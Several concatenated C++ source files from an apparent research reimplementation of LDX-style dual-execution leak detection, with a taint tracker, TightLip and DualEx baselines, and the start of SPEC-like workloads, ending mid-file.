        LabelSet labels;
    };
    std::map<int, std::vector<ControlScope>> controlStacks_;
    std::map<int, std::size_t> frameDepth_;

    /** (fn, block) of every CondBr, and per-block ipostdom. */
    std::map<const ir::Instr *, std::pair<int, int>> branchBlocks_;
    std::vector<std::vector<int>> ipostdom_; ///< [fn][block]

    static constexpr std::size_t kMaxTaintedSinks = 100000;
};

/** Options for one taint-analysis run. */
struct TaintRunOptions
{
    TaintPolicy policy;
    std::vector<core::SourceSpec> sources;
    std::function<bool(const std::string &)> sinkChannel;
    bool retTokenSinks = false;
    bool allocSizeSinks = false;
    vm::MachineConfig vmConfig;
};

/** Result of one taint-analysis run. */
struct TaintRunResult
{
    vm::StepStatus status = vm::StepStatus::Finished;
    std::int64_t exitCode = 0;
    std::uint64_t totalSinks = 0;
    std::vector<TaintedSinkEvent> taintedSinks;
};

/** Run @p module natively under a taint tracker. */
TaintRunResult runTaintAnalysis(const ir::Module &module,
                                const os::WorldSpec &world,
                                TaintRunOptions opts);

} // namespace ldx::taint
