#include "taint/tightlip.h"

#include <algorithm>

#include "os/kernel.h"
#include "os/sysno.h"
#include "support/prng.h"

namespace ldx::taint {

namespace {

/** Hook that records every syscall into a trace. */
class TraceHook : public vm::ExecHook
{
  public:
    explicit TraceHook(std::vector<TraceRecord> &out)
        : out_(out)
    {}

    void
    onInstr(int, const ir::Instr &, std::uint64_t, std::int64_t,
            vm::Machine &) override
    {}

    void
    onCall(int, const ir::Instr &, int,
           const std::vector<std::int64_t> &, vm::Machine &) override
    {}

    void
    onRet(int, const ir::Instr &, int, std::int64_t,
          vm::Machine &) override
    {}

    void
    onSyscall(const vm::SyscallRequest &req, const os::Outcome &out,
              vm::Machine &vm) override
    {
        (void)out;
        const os::SysDesc &desc = os::sysDesc(req.sysNo);
        TraceRecord rec;
        rec.sysNo = req.sysNo;
        rec.isOutput = desc.klass == os::SysClass::Output;
        // Alignment signature: syscall number, path strings, lengths
        // and plain scalar args; buffer addresses excluded.
        rec.signature = std::to_string(req.sysNo);
        for (std::size_t i = 0; i < req.args.size(); ++i) {
            int idx = static_cast<int>(i);
            if (idx == desc.outBufArg || idx == desc.inBufArg)
                continue;
            try {
                if (idx == desc.pathArg || idx == desc.pathArg2) {
                    rec.signature += "|s:" + vm.memory().readCString(
                        static_cast<std::uint64_t>(req.args[i]));
                    continue;
                }
            } catch (const vm::VmTrap &) {
                rec.signature += "|fault";
                continue;
            }
            rec.signature += "|" + std::to_string(req.args[i]);
        }
        if (rec.isOutput) {
            try {
                rec.payload = vm.kernel().sinkPayload(req.sysNo, req.args,
                                                      vm.memory());
            } catch (const vm::VmTrap &) {
                rec.payload = "fault";
            }
        }
        if (out_.size() < kCap)
            out_.push_back(std::move(rec));
    }

  private:
    static constexpr std::size_t kCap = 1 << 20;
    std::vector<TraceRecord> &out_;
};

} // namespace

std::vector<TraceRecord>
recordSyscallTrace(const ir::Module &module, const os::WorldSpec &world,
                   vm::MachineConfig cfg)
{
    std::vector<TraceRecord> trace;
    os::Kernel kernel(world);
    vm::Machine machine(module, kernel, cfg);
    TraceHook hook(trace);
    machine.setExecHook(&hook);
    machine.run();
    return trace;
}

TightLipResult
compareTracesTightLip(const std::vector<TraceRecord> &master,
                      const std::vector<TraceRecord> &slave, int window)
{
    TightLipResult res;
    res.masterTrace = master.size();
    res.slaveTrace = slave.size();

    std::size_t i = 0, j = 0;
    while (i < master.size() && j < slave.size()) {
        if (master[i].signature == slave[j].signature) {
            if (master[i].isOutput &&
                master[i].payload != slave[j].payload) {
                res.payloadDiffered = true;
                res.leakReported = true;
                return res;
            }
            ++res.matchedPrefix;
            ++i;
            ++j;
            continue;
        }
        // Try to re-match within the window by skipping records on
        // either side.
        bool matched = false;
        for (int skip = 1; skip <= window && !matched; ++skip) {
            if (j + static_cast<std::size_t>(skip) < slave.size() &&
                master[i].signature ==
                    slave[j + static_cast<std::size_t>(skip)].signature) {
                res.syscallDiffs += static_cast<std::uint64_t>(skip);
                j += static_cast<std::size_t>(skip);
                matched = true;
            } else if (i + static_cast<std::size_t>(skip) <
                           master.size() &&
                       master[i + static_cast<std::size_t>(skip)]
                               .signature == slave[j].signature) {
                res.syscallDiffs += static_cast<std::uint64_t>(skip);
                i += static_cast<std::size_t>(skip);
                matched = true;
            }
        }
        if (!matched) {
            // Beyond the window: TightLip kills the doppelganger and
            // reports.
            res.alignmentFailed = true;
            res.leakReported = true;
            ++res.syscallDiffs;
            return res;
        }
    }
    // Tail-length differences are syscall diffs too.
    std::size_t tail =
        (master.size() - i) + (slave.size() - j);
    res.syscallDiffs += static_cast<std::uint64_t>(tail);
    if (tail > static_cast<std::size_t>(window)) {
        res.alignmentFailed = true;
        res.leakReported = true;
    }
    return res;
}

TightLipResult
runTightLip(const ir::Module &module, const os::WorldSpec &world,
            const std::vector<core::SourceSpec> &sources,
            core::MutationStrategy strategy, int window,
            std::uint64_t mutation_seed)
{
    Prng prng(mutation_seed);
    core::MutatedWorld mutated =
        core::mutateWorld(world, sources, strategy, prng);
    auto master = recordSyscallTrace(module, world);
    auto slave = recordSyscallTrace(module, mutated.world);
    return compareTracesTightLip(master, slave, window);
}

} // namespace ldx::taint
