/**
 * @file
 * Execution-indexing dual execution — the DualEx (Kim et al. 2015)
 * cost baseline LDX is compared against in §8.1 / §9.
 *
 * DualEx aligns the two executions at *instruction* granularity: both
 * sides stream their executed instructions to a monitor, which
 * maintains an execution-index structure (Xin et al. 2008) — a stack
 * mirroring the nesting of calls and control regions — and keeps the
 * executions in lockstep. We reproduce that cost profile: every
 * instruction updates an index stack and posts an index digest to a
 * shared monitor buffer where the two streams are compared, and the
 * two machines advance in strict 1:1 lockstep. The measured slowdown
 * versus LDX's per-syscall coupling is the point of the ablation
 * bench (the paper reports three orders of magnitude).
 */
#pragma once

#include <cstdint>

#include "ir/ir.h"
#include "os/world.h"
#include "vm/machine.h"

namespace ldx::taint {

/** Result of one indexed dual execution. */
struct IndexedDualResult
{
    double wallSeconds = 0.0;
    std::uint64_t instructions = 0; ///< master-side instruction count
    std::uint64_t indexComparisons = 0;
    bool diverged = false; ///< index streams differed
    bool finished = false;
};

/**
 * Run master and slave in instruction-lockstep with execution-index
 * maintenance and monitor comparison. No mutation: this measures pure
 * alignment overhead (the Fig. 6 "same input" configuration).
 */
IndexedDualResult runIndexedDualExecution(const ir::Module &module,
                                          const os::WorldSpec &world,
                                          vm::MachineConfig cfg = {});

} // namespace ldx::taint
