/**
 * @file
 * TIGHTLIP baseline (Yumerefendi et al. 2007): master/doppelganger
 * execution without counter-based alignment. Syscall streams are
 * compared in order with a small tolerance window; once the streams
 * cannot be re-matched within the window, TightLip gives up and
 * reports leakage (the paper's Table 2 shows it reporting leakage for
 * both the leaking and the non-leaking mutation whenever the mutation
 * perturbs the syscall stream at all).
 *
 * Both runs use identical nondeterminism seeds (modeling TightLip's
 * outcome sharing while aligned), so divergence comes only from the
 * source mutation.
 */
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "ir/ir.h"
#include "ldx/mutation.h"
#include "os/world.h"
#include "vm/machine.h"

namespace ldx::taint {

/** One syscall trace record. */
struct TraceRecord
{
    std::int64_t sysNo = 0;
    std::string signature; ///< alignment signature (no volatile data)
    std::string payload;   ///< output payload ("" for inputs)
    bool isOutput = false;
};

/** TightLip verdict. */
struct TightLipResult
{
    bool leakReported = false;
    bool alignmentFailed = false;   ///< gave up beyond the window
    bool payloadDiffered = false;   ///< matched output with diff bytes
    std::size_t matchedPrefix = 0;  ///< records matched before failure
    std::uint64_t syscallDiffs = 0; ///< skipped/mismatched records
    std::size_t masterTrace = 0;
    std::size_t slaveTrace = 0;
};

/** Record the syscall trace of one native run. */
std::vector<TraceRecord> recordSyscallTrace(
    const ir::Module &module, const os::WorldSpec &world,
    vm::MachineConfig cfg = {});

/** Compare two traces with TightLip's window tolerance. */
TightLipResult compareTracesTightLip(
    const std::vector<TraceRecord> &master,
    const std::vector<TraceRecord> &slave, int window = 8);

/** Full TightLip run: execute both versions and compare. */
TightLipResult runTightLip(const ir::Module &module,
                           const os::WorldSpec &world,
                           const std::vector<core::SourceSpec> &sources,
                           core::MutationStrategy strategy =
                               core::MutationStrategy::OffByOne,
                           int window = 8,
                           std::uint64_t mutation_seed = 7);

} // namespace ldx::taint
