#include "taint/indexing.h"

#include <unistd.h>

#include <chrono>
#include <deque>
#include <vector>

#include "os/kernel.h"
#include "support/diag.h"

namespace ldx::taint {

namespace {

/** Execution index: a stack mirroring call/branch nesting. */
class ExecutionIndex
{
  public:
    void
    onInstrExecuted(int fn, int block, int ip)
    {
        // Rolling digest of the full index stack plus the current
        // point — this is the per-instruction work DualEx pays.
        std::uint64_t h = 0xcbf29ce484222325ULL;
        auto mix = [&h](std::uint64_t v) {
            h ^= v;
            h *= 0x100000001b3ULL;
        };
        for (std::uint64_t frame : stack_)
            mix(frame);
        mix(static_cast<std::uint64_t>(fn) << 40 |
            static_cast<std::uint64_t>(block) << 20 |
            static_cast<std::uint64_t>(ip));
        digest_ = h;
    }

    void
    push(int fn, int block)
    {
        stack_.push_back(static_cast<std::uint64_t>(fn) << 20 |
                         static_cast<std::uint64_t>(block));
    }

    void
    pop()
    {
        if (!stack_.empty())
            stack_.pop_back();
    }

    std::uint64_t digest() const { return digest_; }

  private:
    std::vector<std::uint64_t> stack_;
    std::uint64_t digest_ = 0;
};

/**
 * Hook maintaining the index and streaming digests to the monitor.
 * DualEx's master and slave send every executed instruction to a
 * separate monitor process; we reproduce that cost with a real OS
 * pipe write per event (the monitor end reads and compares).
 */
class IndexHook : public vm::ExecHook
{
  public:
    IndexHook(std::deque<std::uint64_t> &stream, int pipe_wr, int pipe_rd)
        : stream_(stream), pipeWr_(pipe_wr), pipeRd_(pipe_rd)
    {}

    /** Ship one digest through the monitor pipe. */
    void
    ship(std::uint64_t digest)
    {
        if (pipeWr_ < 0) {
            stream_.push_back(digest);
            return;
        }
        std::uint64_t echo = 0;
        if (::write(pipeWr_, &digest, sizeof(digest)) !=
                sizeof(digest) ||
            ::read(pipeRd_, &echo, sizeof(echo)) != sizeof(echo))
            panic("monitor pipe failed");
        stream_.push_back(echo);
    }

    void
    onInstr(int, const ir::Instr &instr, std::uint64_t, std::int64_t,
            vm::Machine &) override
    {
        index_.onInstrExecuted(0, 0, static_cast<int>(
            reinterpret_cast<std::uintptr_t>(&instr) & 0xfffff));
        ship(index_.digest());
    }

    void
    onCall(int, const ir::Instr &, int callee,
           const std::vector<std::int64_t> &, vm::Machine &) override
    {
        index_.push(callee, 0);
        ship(index_.digest());
    }

    void
    onRet(int, const ir::Instr &, int, std::int64_t,
          vm::Machine &) override
    {
        index_.pop();
        ship(index_.digest());
    }

    void
    onBranch(int, const ir::Instr &instr, int taken,
             vm::Machine &) override
    {
        index_.onInstrExecuted(1, taken, instr.target0);
        ship(index_.digest());
    }

    void
    onSyscall(const vm::SyscallRequest &req, const os::Outcome &,
              vm::Machine &) override
    {
        index_.onInstrExecuted(2, static_cast<int>(req.sysNo), req.site);
        ship(index_.digest());
    }

  private:
    ExecutionIndex index_;
    std::deque<std::uint64_t> &stream_;
    int pipeWr_ = -1;
    int pipeRd_ = -1;
};

} // namespace

IndexedDualResult
runIndexedDualExecution(const ir::Module &module,
                        const os::WorldSpec &world, vm::MachineConfig cfg)
{
    os::Kernel master_kernel(world);
    os::Kernel slave_kernel(world); // identical input: pure overhead
    vm::Machine master(module, master_kernel, cfg);
    vm::Machine slave(module, slave_kernel, cfg);

    // One monitor pipe per execution, as in DualEx's master/slave ->
    // monitor channels.
    int mfd[2] = {-1, -1};
    int sfd[2] = {-1, -1};
    if (::pipe(mfd) != 0 || ::pipe(sfd) != 0)
        panic("cannot create monitor pipes");
    std::deque<std::uint64_t> master_stream;
    std::deque<std::uint64_t> slave_stream;
    IndexHook master_hook(master_stream, mfd[1], mfd[0]);
    IndexHook slave_hook(slave_stream, sfd[1], sfd[0]);
    master.setExecHook(&master_hook);
    slave.setExecHook(&slave_hook);

    IndexedDualResult res;
    auto t0 = std::chrono::steady_clock::now();

    master.start();
    slave.start();
    // Strict lockstep: one instruction each, monitor compares the
    // index streams as they are produced.
    while (!master.finished() || !slave.finished()) {
        if (!master.finished())
            master.step();
        if (!slave.finished())
            slave.step();
        while (!master_stream.empty() && !slave_stream.empty()) {
            ++res.indexComparisons;
            if (master_stream.front() != slave_stream.front())
                res.diverged = true;
            master_stream.pop_front();
            slave_stream.pop_front();
        }
    }

    res.wallSeconds = std::chrono::duration<double>(
                          std::chrono::steady_clock::now() - t0)
                          .count();
    res.instructions = master.stats().instructions;
    res.finished = master.finished() && slave.finished();
    ::close(mfd[0]);
    ::close(mfd[1]);
    ::close(sfd[0]);
    ::close(sfd[1]);
    return res;
}

} // namespace ldx::taint
