/**
 * @file
 * Shadow state for instruction-level dynamic taint tracking: byte
 * granular shadow memory plus shadow registers mirroring the VM's
 * frame stack. Taint labels are a bitset over up to 64 sources.
 */
#pragma once

#include <cstdint>
#include <unordered_map>
#include <vector>

namespace ldx::taint {

/** A set of source labels. */
using LabelSet = std::uint64_t;

/** Shadow registers and memory for one execution. */
class ShadowState
{
  public:
    // ---- registers (per thread, per frame) ----

    /** Mirror a call: push a shadow frame of @p num_regs registers. */
    void
    pushFrame(int tid, int num_regs)
    {
        frames(tid).emplace_back(
            std::vector<LabelSet>(static_cast<std::size_t>(num_regs), 0));
    }

    /** Mirror a return. */
    void
    popFrame(int tid)
    {
        auto &f = frames(tid);
        if (!f.empty())
            f.pop_back();
    }

    LabelSet
    reg(int tid, int r) const
    {
        auto it = threads_.find(tid);
        if (it == threads_.end() || it->second.empty())
            return 0;
        const auto &regs = it->second.back();
        if (r < 0 || r >= static_cast<int>(regs.size()))
            return 0;
        return regs[static_cast<std::size_t>(r)];
    }

    void
    setReg(int tid, int r, LabelSet labels)
    {
        if (r < 0)
            return;
        auto &f = frames(tid);
        if (f.empty())
            f.emplace_back();
        auto &regs = f.back();
        if (r >= static_cast<int>(regs.size()))
            regs.resize(static_cast<std::size_t>(r) + 1, 0);
        regs[static_cast<std::size_t>(r)] = labels;
    }

    // ---- memory (byte granular, sparse) ----

    LabelSet
    memByte(std::uint64_t addr) const
    {
        auto it = mem_.find(addr);
        return it == mem_.end() ? 0 : it->second;
    }

    LabelSet
    memRange(std::uint64_t addr, std::uint64_t n) const
    {
        LabelSet labels = 0;
        for (std::uint64_t i = 0; i < n; ++i)
            labels |= memByte(addr + i);
        return labels;
    }

    void
    setMemRange(std::uint64_t addr, std::uint64_t n, LabelSet labels)
    {
        for (std::uint64_t i = 0; i < n; ++i) {
            if (labels)
                mem_[addr + i] = labels;
            else
                mem_.erase(addr + i);
        }
    }

    /** Number of tainted bytes (diagnostics). */
    std::size_t taintedBytes() const { return mem_.size(); }

  private:
    std::vector<std::vector<LabelSet>> &
    frames(int tid)
    {
        return threads_[tid];
    }

    std::unordered_map<int, std::vector<std::vector<LabelSet>>> threads_;
    std::unordered_map<std::uint64_t, LabelSet> mem_;
};

} // namespace ldx::taint
