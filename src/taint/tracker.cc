#include "taint/tracker.h"

#include <algorithm>

#include "analysis/cfg.h"
#include "analysis/dominators.h"
#include "os/kernel.h"
#include "os/sysno.h"
#include "support/diag.h"

namespace ldx::taint {

TaintTracker::TaintTracker(
    const ir::Module &module, TaintPolicy policy,
    std::vector<core::SourceSpec> sources,
    std::function<bool(const std::string &)> sink_channel)
    : module_(module), policy_(policy), sources_(std::move(sources)),
      sinkChannel_(std::move(sink_channel))
{
    if (!sinkChannel_)
        sinkChannel_ = [](const std::string &) { return true; };
    if (sources_.size() > 64)
        fatal("at most 64 taint sources are supported");

    // Precompute immediate postdominators (control-dep regions) and
    // the (fn, block) of every conditional branch.
    ipostdom_.resize(module.numFunctions());
    for (std::size_t f = 0; f < module.numFunctions(); ++f) {
        const ir::Function &fn = module.function(static_cast<int>(f));
        int exit_block = -1;
        analysis::DiGraph reversed(static_cast<int>(fn.numBlocks()));
        for (std::size_t b = 0; b < fn.numBlocks(); ++b) {
            const ir::BasicBlock &bb = fn.block(static_cast<int>(b));
            for (int succ : bb.successors())
                reversed.addEdge(succ, static_cast<int>(b));
            if (bb.isTerminated() &&
                bb.terminator().op == ir::Opcode::Ret && exit_block < 0)
                exit_block = static_cast<int>(b);
            for (const ir::Instr &instr : bb.instrs()) {
                if (instr.op == ir::Opcode::CondBr) {
                    branchBlocks_[&instr] = {static_cast<int>(f),
                                             static_cast<int>(b)};
                }
            }
        }
        auto &ipd = ipostdom_[f];
        ipd.assign(fn.numBlocks(), -1);
        if (exit_block >= 0) {
            analysis::DominatorTree pdom(reversed, exit_block);
            for (std::size_t b = 0; b < fn.numBlocks(); ++b)
                ipd[b] = pdom.idom(static_cast<int>(b));
        }
    }
}

LabelSet
TaintTracker::operandTaint(int tid, const ir::Operand &op) const
{
    return op.isReg() ? shadow_.reg(tid, op.reg) : 0;
}

std::int64_t
TaintTracker::operandValue(const ir::Operand &op, const vm::Machine &vm,
                           int tid) const
{
    if (op.isImm())
        return op.imm;
    if (op.isReg())
        return vm.context(tid).frames.back().regs[
            static_cast<std::size_t>(op.reg)];
    return 0;
}

LabelSet
TaintTracker::controlTaint(int tid) const
{
    if (!policy_.trackControlDeps)
        return 0;
    auto it = controlStacks_.find(tid);
    if (it == controlStacks_.end())
        return 0;
    LabelSet labels = 0;
    for (const ControlScope &scope : it->second)
        labels |= scope.labels;
    return labels;
}

void
TaintTracker::write(int tid, int reg, LabelSet labels)
{
    shadow_.setReg(tid, reg, labels | controlTaint(tid));
}

void
TaintTracker::recordSink(TaintedSinkEvent evt)
{
    if (tainted_.size() < kMaxTaintedSinks)
        tainted_.push_back(std::move(evt));
}

void
TaintTracker::onInstr(int tid, const ir::Instr &instr, std::uint64_t addr,
                      std::int64_t value, vm::Machine &vm)
{
    using ir::Opcode;
    switch (instr.op) {
      case Opcode::Const:
      case Opcode::GlobalAddr:
      case Opcode::Alloca:
      case Opcode::FnAddr:
        write(tid, instr.dst, 0);
        break;
      case Opcode::Move:
      case Opcode::Neg:
      case Opcode::Not:
        write(tid, instr.dst, operandTaint(tid, instr.a));
        break;
      case Opcode::Add: case Opcode::Sub: case Opcode::Mul:
      case Opcode::Div: case Opcode::Rem: case Opcode::And:
      case Opcode::Or: case Opcode::Xor: case Opcode::Shl:
      case Opcode::Shr: case Opcode::CmpEq: case Opcode::CmpNe:
      case Opcode::CmpLt: case Opcode::CmpLe: case Opcode::CmpGt:
      case Opcode::CmpGe:
        write(tid, instr.dst,
              operandTaint(tid, instr.a) | operandTaint(tid, instr.b));
        break;
      case Opcode::Load:
        write(tid, instr.dst,
              shadow_.memRange(addr,
                               static_cast<std::uint64_t>(instr.size)));
        break;
      case Opcode::Store:
        shadow_.setMemRange(addr,
                            static_cast<std::uint64_t>(instr.size),
                            operandTaint(tid, instr.b) |
                                controlTaint(tid));
        break;
      case Opcode::LibCall: {
        auto arg_taint = [&](std::size_t i) -> LabelSet {
            return i < instr.args.size()
                ? operandTaint(tid, instr.args[i]) : 0;
        };
        auto arg_value = [&](std::size_t i) -> std::int64_t {
            return i < instr.args.size()
                ? operandValue(instr.args[i], vm, tid) : 0;
        };
        ir::LibRoutine r = static_cast<ir::LibRoutine>(instr.imm);
        LabelSet ctl = controlTaint(tid);
        switch (r) {
          case ir::LibRoutine::Memcpy: {
            std::uint64_t dst = static_cast<std::uint64_t>(arg_value(0));
            std::uint64_t src = static_cast<std::uint64_t>(arg_value(1));
            std::uint64_t n = static_cast<std::uint64_t>(
                std::max<std::int64_t>(0, arg_value(2)));
            if (policy_.modelMemcpy) {
                for (std::uint64_t i = 0; i < n; ++i)
                    shadow_.setMemRange(dst + i, 1,
                                        shadow_.memByte(src + i) | ctl);
            } else {
                shadow_.setMemRange(dst, n, ctl);
            }
            write(tid, instr.dst, 0);
            break;
          }
          case ir::LibRoutine::Memset: {
            std::uint64_t dst = static_cast<std::uint64_t>(arg_value(0));
            std::uint64_t n = static_cast<std::uint64_t>(
                std::max<std::int64_t>(0, arg_value(2)));
            shadow_.setMemRange(dst, n,
                                (policy_.modelMemset ? arg_taint(1) : 0) |
                                    ctl);
            write(tid, instr.dst, 0);
            break;
          }
          case ir::LibRoutine::Strcpy: {
            std::uint64_t dst = static_cast<std::uint64_t>(arg_value(0));
            std::uint64_t src = static_cast<std::uint64_t>(arg_value(1));
            std::uint64_t n =
                vm.memory().readCString(src).size() + 1;
            if (policy_.modelStrcpy) {
                for (std::uint64_t i = 0; i < n; ++i)
                    shadow_.setMemRange(dst + i, 1,
                                        shadow_.memByte(src + i) | ctl);
            } else {
                shadow_.setMemRange(dst, n, ctl);
            }
            write(tid, instr.dst, 0);
            break;
          }
          case ir::LibRoutine::Strcat: {
            std::uint64_t dst = static_cast<std::uint64_t>(arg_value(0));
            std::uint64_t src = static_cast<std::uint64_t>(arg_value(1));
            std::uint64_t src_len =
                vm.memory().readCString(src).size() + 1;
            std::uint64_t total =
                vm.memory().readCString(dst).size() + 1;
            std::uint64_t tail = dst + (total - src_len);
            if (policy_.modelStrcat) {
                for (std::uint64_t i = 0; i < src_len; ++i)
                    shadow_.setMemRange(tail + i, 1,
                                        shadow_.memByte(src + i) | ctl);
            } else {
                shadow_.setMemRange(tail, src_len, ctl);
            }
            write(tid, instr.dst, 0);
            break;
          }
          case ir::LibRoutine::Strlen: {
            std::uint64_t src = static_cast<std::uint64_t>(arg_value(0));
            LabelSet labels = policy_.modelStrlen
                ? shadow_.memRange(src,
                      static_cast<std::uint64_t>(
                          std::max<std::int64_t>(0, value)) + 1)
                : 0;
            write(tid, instr.dst, labels);
            break;
          }
          case ir::LibRoutine::Strcmp: {
            LabelSet labels = 0;
            if (policy_.modelStrcmp) {
                std::uint64_t a =
                    static_cast<std::uint64_t>(arg_value(0));
                std::uint64_t b =
                    static_cast<std::uint64_t>(arg_value(1));
                labels = shadow_.memRange(
                             a, vm.memory().readCString(a).size() + 1) |
                         shadow_.memRange(
                             b, vm.memory().readCString(b).size() + 1);
            }
            write(tid, instr.dst, labels);
            break;
          }
          case ir::LibRoutine::Atoi: {
            LabelSet labels = 0;
            if (policy_.modelAtoi) {
                std::uint64_t s =
                    static_cast<std::uint64_t>(arg_value(0));
                labels = shadow_.memRange(
                    s, vm.memory().readCString(s).size() + 1);
            }
            write(tid, instr.dst, labels);
            break;
          }
          case ir::LibRoutine::Itoa: {
            std::uint64_t buf =
                static_cast<std::uint64_t>(arg_value(1));
            std::uint64_t n = vm.memory().readCString(buf).size() + 1;
            shadow_.setMemRange(buf, n,
                                (policy_.modelItoa ? arg_taint(0) : 0) |
                                    ctl);
            write(tid, instr.dst, 0);
            break;
          }
          case ir::LibRoutine::Malloc: {
            if (allocSizeSinks_) {
                ++totalSinks_;
                LabelSet labels = arg_taint(0);
                if (labels) {
                    TaintedSinkEvent evt;
                    evt.kind = TaintedSinkEvent::Kind::AllocSize;
                    evt.labels = labels;
                    evt.loc = instr.loc;
                    recordSink(std::move(evt));
                }
            }
            write(tid, instr.dst, 0);
            break;
          }
          case ir::LibRoutine::Free:
            write(tid, instr.dst, 0);
            break;
        }
        break;
      }
      default:
        break;
    }
}

void
TaintTracker::onCall(int tid, const ir::Instr &call_instr, int callee,
                     const std::vector<std::int64_t> &args,
                     vm::Machine &vm)
{
    (void)args;
    (void)vm;
    std::vector<LabelSet> param_taints;
    param_taints.reserve(call_instr.args.size());
    for (const ir::Operand &op : call_instr.args)
        param_taints.push_back(operandTaint(tid, op));
    shadow_.pushFrame(tid, module_.function(callee).numRegs());
    for (std::size_t i = 0; i < param_taints.size(); ++i)
        shadow_.setReg(tid, static_cast<int>(i), param_taints[i]);
    ++frameDepth_[tid];
}

void
TaintTracker::onRet(int tid, const ir::Instr &ret_instr, int ret_reg,
                    std::int64_t ret_value, vm::Machine &vm)
{
    (void)ret_value;
    (void)vm;
    LabelSet ret_taint = operandTaint(tid, ret_instr.a);
    shadow_.popFrame(tid);
    write(tid, ret_reg, ret_taint);
    // Close control scopes opened inside the returning frame.
    auto &depth = frameDepth_[tid];
    auto it = controlStacks_.find(tid);
    if (it != controlStacks_.end()) {
        while (!it->second.empty() &&
               it->second.back().frameDepth >= depth)
            it->second.pop_back();
    }
    if (depth > 0)
        --depth;
}

void
TaintTracker::onBranch(int tid, const ir::Instr &instr, int taken,
                       vm::Machine &vm)
{
    (void)taken;
    (void)vm;
    if (!policy_.trackControlDeps)
        return;
    LabelSet labels = operandTaint(tid, instr.a);
    if (!labels)
        return;
    auto it = branchBlocks_.find(&instr);
    if (it == branchBlocks_.end())
        return;
    auto [fn, block] = it->second;
    int join = ipostdom_[static_cast<std::size_t>(fn)]
                        [static_cast<std::size_t>(block)];
    if (join < 0)
        return;
    controlStacks_[tid].push_back(
        {frameDepth_[tid], fn, join, labels});
}

void
TaintTracker::onBlockEnter(int tid, int fn, int block, vm::Machine &vm)
{
    (void)vm;
    if (!policy_.trackControlDeps)
        return;
    auto it = controlStacks_.find(tid);
    if (it == controlStacks_.end())
        return;
    auto &stack = it->second;
    std::size_t depth = frameDepth_[tid];
    while (!stack.empty() && stack.back().frameDepth == depth &&
           stack.back().fn == fn && stack.back().joinBlock == block)
        stack.pop_back();
}

void
TaintTracker::onSyscall(const vm::SyscallRequest &req,
                        const os::Outcome &out, vm::Machine &vm)
{
    const os::SysDesc &desc = os::sysDesc(req.sysNo);

    // New thread: give it a shadow frame.
    if (static_cast<os::Sys>(req.sysNo) == os::Sys::ThreadCreate &&
        out.ret >= 0) {
        shadow_.pushFrame(static_cast<int>(out.ret), 64);
        return;
    }

    // Input data overwrites the out-buffer: refresh its shadow, then
    // apply the source label when this syscall reads a source.
    if (desc.outBufArg >= 0 &&
        desc.outBufArg < static_cast<int>(req.args.size()) &&
        !out.data.empty()) {
        std::uint64_t buf = static_cast<std::uint64_t>(
            req.args[static_cast<std::size_t>(desc.outBufArg)]);
        LabelSet labels = 0;
        std::string key;
        try {
            key = vm.kernel().resourceKey(req.sysNo, req.args,
                                          vm.memory());
        } catch (const vm::VmTrap &) {
            key.clear();
        }
        for (std::size_t i = 0; i < sources_.size(); ++i) {
            if (sources_[i].resourceKey() == key)
                labels |= LabelSet{1} << i;
        }
        shadow_.setMemRange(buf, out.data.size(), labels);
    }

    // Output sinks: check the payload's shadow bytes.
    if (desc.klass == os::SysClass::Output && desc.inBufArg >= 0 &&
        desc.inBufArg < static_cast<int>(req.args.size())) {
        std::string payload;
        try {
            payload = vm.kernel().sinkPayload(req.sysNo, req.args,
                                              vm.memory());
        } catch (const vm::VmTrap &) {
            return;
        }
        std::string channel = payload.substr(0, payload.find('|'));
        if (!sinkChannel_(channel))
            return;
        ++totalSinks_;
        std::uint64_t buf = static_cast<std::uint64_t>(
            req.args[static_cast<std::size_t>(desc.inBufArg)]);
        std::int64_t len = desc.lenArg >= 0 &&
                desc.lenArg < static_cast<int>(req.args.size())
            ? std::max<std::int64_t>(
                  0, req.args[static_cast<std::size_t>(desc.lenArg)])
            : 0;
        LabelSet labels =
            shadow_.memRange(buf, static_cast<std::uint64_t>(len));
        if (labels) {
            TaintedSinkEvent evt;
            evt.kind = TaintedSinkEvent::Kind::Output;
            evt.site = req.site;
            evt.sysNo = req.sysNo;
            evt.labels = labels;
            evt.channel = channel;
            evt.loc = req.loc;
            recordSink(std::move(evt));
        }
    }
}

void
TaintTracker::onRetToken(int tid, std::uint64_t token_addr,
                         std::int64_t token, std::int64_t expected,
                         vm::Machine &vm)
{
    (void)tid;
    (void)token;
    (void)expected;
    (void)vm;
    if (!retTokenSinks_)
        return;
    ++totalSinks_;
    LabelSet labels = shadow_.memRange(token_addr, 8);
    if (labels) {
        TaintedSinkEvent evt;
        evt.kind = TaintedSinkEvent::Kind::RetToken;
        evt.labels = labels;
        recordSink(std::move(evt));
    }
}

void
TaintTracker::onAllocSize(int, std::int64_t, vm::Machine &)
{
    // Alloc-size sinks are handled at the Malloc LibCall in onInstr,
    // where the size argument's shadow register is visible.
}

TaintRunResult
runTaintAnalysis(const ir::Module &module, const os::WorldSpec &world,
                 TaintRunOptions opts)
{
    os::Kernel kernel(world);
    vm::Machine machine(module, kernel, opts.vmConfig);
    TaintTracker tracker(module, opts.policy, opts.sources,
                         opts.sinkChannel);
    tracker.setRetTokenSinks(opts.retTokenSinks);
    tracker.setAllocSizeSinks(opts.allocSizeSinks);
    machine.setExecHook(&tracker);
    machine.setSinkHook(&tracker);

    TaintRunResult result;
    result.status = machine.run();
    result.exitCode = machine.exitCode();
    result.totalSinks = tracker.totalSinkEvents();
    result.taintedSinks = tracker.taintedSinks();
    return result;
}

} // namespace ldx::taint
