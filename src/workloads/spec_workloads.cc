/**
 * @file
 * SPEC-like compute workloads (the first 12 rows of Table 1). Each is
 * a scaled-down analogue of its SPECINT2006 namesake: same flavour of
 * computation, driven by data/configuration files whose mutation is
 * the Table 2/3 experiment.
 */
#include "workloads/workloads.h"

#include "support/prng.h"

namespace ldx::workloads {

namespace {

using core::SourceSpec;

std::string
randomText(Prng &prng, std::size_t n)
{
    static const char alphabet[] =
        "abcdefghijklmnopqrstuvwxyz     \n";
    std::string out;
    out.reserve(n);
    for (std::size_t i = 0; i < n; ++i)
        out += alphabet[prng.below(sizeof(alphabet) - 1)];
    return out;
}

std::string
randomBytes(Prng &prng, std::size_t n, int modulo = 250)
{
    std::string out;
    out.reserve(n);
    for (std::size_t i = 0; i < n; ++i)
        out += static_cast<char>(1 + prng.below(
            static_cast<std::uint64_t>(modulo)));
    return out;
}

core::SinkConfig
fileSinks()
{
    core::SinkConfig s;
    s.net = false;
    s.file = true;
    s.console = true;
    return s;
}

// -------------------------------------------------------------- perl
const char *kPerl = R"(
char text[4096];
int textLen;

int opUpper(int i) {
